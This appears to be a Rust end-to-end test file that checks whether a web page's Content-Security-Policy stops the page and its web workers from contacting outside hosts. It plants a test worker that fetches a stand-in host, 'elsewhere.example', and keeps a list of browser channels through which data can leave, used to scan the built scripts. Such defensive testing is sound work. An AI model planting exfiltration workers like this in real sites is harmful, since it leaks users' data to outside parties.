//! The page's own policy: nothing comes from elsewhere or goes there, not even by a worker.

use std::fs;
use std::path::{Path, PathBuf};

use e2e::addresses::{HOW, LAB, fragment};
use e2e::{Outcome, PREFIX, Page, Persona, Screen, Site, Tells, copy_of_dist, dist, visit_in, visit_under};
use serde_json::{Value, json};
use xtask::files::files_below;
use xtask::headers::Headers;

/// What is asked of the host whenever a rule of the page is broken, by the page or by one of its workers.
const REPORT: &str = "broken-rule";

/// What the page's own `_headers` say, and where to tell if something does not keep to them.
fn headers() -> Headers {
    let text = fs::read_to_string(dist().join("_headers")).expect("the build leaves them in dist/");
    Headers::parse(&text).with("Content-Security-Policy", &format!("; report-uri {PREFIX}{REPORT}"))
}

/// Where a browser writes down what it asks of the network.
fn log(name: &str) -> PathBuf {
    Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("{name}.json"))
}

/// A browser that reaches nothing but this machine.
async fn walled_in(site: &Site, log: &Path) -> Outcome<Page> {
    let args = [
        "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1".to_owned(),
        format!("--log-net-log={}", log.display()),
    ];
    site.newcomer_in(&json!({ "args": args }), Screen::LAPTOP, "").await
}

/// Every address that a page or worker of ours has asked the network for; the browser's own business is not ours.
fn asked(log: &Path, site: &str) -> Outcome<Vec<String>> {
    let origin = site.split('/').take(3).collect::<Vec<_>>().join("/");
    let text = fs::read_to_string(log)?;
    // One event a line.
    let events = text.lines().filter_map(|line| serde_json::from_str(line.trim_end_matches(',')).ok());
    let ours = |event: &Value| event["params"]["initiator"] == *origin;
    let mut found: Vec<String> = events
        .filter(ours)
        .filter_map(|event: Value| Some(event["params"]["url"].as_str()?.to_owned()))
        .collect();
    found.sort();
    found.dedup();
    Ok(found)
}

/// Everything that can be done here, once.
async fn whole_visit(page: &Page) -> Outcome<()> {
    page.landing().live_dot().appears().await?;
    page.walk_to_the_quiz().await?;
    page.answer_all(Persona::Reticent).await?;
    page.year().map_in_words().appears().await?;
    page.year().play().enter().await?;
    page.year().day().days_pass().await?;
    page.share().open().await?;
    let link = page.share().copied_link(Tells::Answers).await?;
    page.share().save_wide().enter().await?;
    page.share().said().says("saved").await?;
    page.share().qr_button().enter().await?;
    page.share().qr_code().appears().await?;
    let code = fragment(&link).ok_or("the link has no code")?;
    page.open(&format!("{code}~{}", code.trim_start_matches(Tells::Answers.start()))).await?;
    page.comparison().rest().appears().await?;
    page.open(LAB).await?;
    page.beats().open_levers().await?;
    page.lab().world().await?;
    page.lab().press_play().await?;
    page.lab().leaves_day_0().await?;
    page.open(HOW).await?;
    page.how().screen().appears().await
}

#[test]
fn a_whole_visit_breaks_no_rule_and_asks_nobody_but_its_own_host() {
    let log = log("whole-visit");
    visit_under("locked", &dist(), headers(), async |site| {
        let page = walled_in(site, &log).await?;
        whole_visit(&page).await?;
        site.settled().await?;
        site.all_leave().await?;
        let broken: Vec<String> =
            site.requests().into_iter().filter(|path| path.starts_with(REPORT)).collect();
        assert_eq!(broken, Vec::<String>::new());
        // The page, its workers and what keeps it for later: whatever they asked, they asked here.
        let asked = asked(&log, &site.address())?;
        assert!(asked.iter().any(|address| address.contains("worker_bg.wasm")), "{asked:?}");
        for address in asked {
            let own = [site.address(), format!("blob:{}", site.address()), "data:".to_owned()];
            assert!(own.iter().any(|start| address.starts_with(start)), "{address} is elsewhere");
        }
        Ok(())
    });
}

/// A copy of the page with a worker in it that tells others.
fn with_a_traitor() -> Outcome<PathBuf> {
    let copy = copy_of_dist("traitor")?;
    fs::write(
        copy.join("traitor.js"),
        "fetch('http://elsewhere.example/report').catch(() => {}).then(() => postMessage(0))",
    )?;
    Ok(copy)
}

/// Has the worker tell, and waits until it has tried.
const TELL: &str = "const done = arguments[0]; const worker = new Worker('traitor.js'); worker.onmessage = () => done(true);";

#[test]
fn whoever_breaks_a_rule_is_noticed() {
    let folder = with_a_traitor().expect("the page can be copied");
    let (open, closed) = (log("traitor-open"), log("traitor-closed"));
    let is_foreign = |address: &String| address.contains("elsewhere.example");
    // A plain host's page stops its own scripts but not its workers: the network's log notices those.
    visit_in("traitor-open", &folder, async |site| {
        let page = walled_in(site, &open).await?;
        page.document().starts().await?;
        assert_eq!(page.complaints().await?, Vec::<String>::new(), "before anything was tried");
        page.expects_complaints(&["elsewhere.example"]);
        page.asks("return fetch('http://elsewhere.example/by-the-page').catch(() => {})").await?;
        page.complains_about("Content Security Policy").await?;
        page.asks_and_waits(TELL, Vec::new()).await?;
        site.all_leave().await?;
        let asked = asked(&open, &site.address())?;
        assert_eq!(
            asked.into_iter().filter(is_foreign).collect::<Vec<_>>(),
            ["http://elsewhere.example/report"]
        );
        Ok(())
    });
    // With the headers nothing gets out, and both are reported.
    visit_under("traitor-closed", &folder, headers(), async |site| {
        let page = walled_in(site, &closed).await?;
        page.expects_complaints(&["elsewhere.example", REPORT]);
        page.document().starts().await?;
        page.asks("return fetch('http://elsewhere.example/by-the-page').catch(() => {})").await?;
        page.asks_and_waits(TELL, Vec::new()).await?;
        site.settled().await?;
        site.all_leave().await?;
        let reports = site.requests().iter().filter(|path| path.starts_with(REPORT)).count();
        assert_eq!(reports, 2, "{:?}", site.requests());
        let asked = asked(&closed, &site.address())?;
        assert_eq!(asked.into_iter().filter(is_foreign).count(), 0);
        Ok(())
    });
}

/// Ways out of a browser that a script could know.
const WAYS_OUT: [&str; 7] = [
    "XMLHttpRequest",
    "WebSocket",
    "EventSource",
    "sendBeacon",
    "RTCPeerConnection",
    "WebTransport",
    "importScripts",
];

#[test]
fn no_script_knows_a_way_out() {
    let mut read = 0;
    for file in files_below(&dist(), &[]).expect("the page is built") {
        let path = dist().join(file);
        // Two scripts stand in the page.
        if path.extension().is_some_and(|extension| extension == "js") || path.ends_with("index.html") {
            let text = fs::read_to_string(&path).expect("scripts are text");
            let found: Vec<_> = WAYS_OUT.into_iter().filter(|way| text.contains(way)).collect();
            assert_eq!(found, Vec::<&str>::new(), "{}", path.display());
            // Addresses that do not begin here: names of kinds of drawing and nothing else.
            for rest in text.split("://").skip(1) {
                assert!(rest.starts_with("www.w3.org/"), "{}: {rest:.40}", path.display());
            }
            read += 1;
        }
    }
    assert!(read > 8, "{read} files");
}
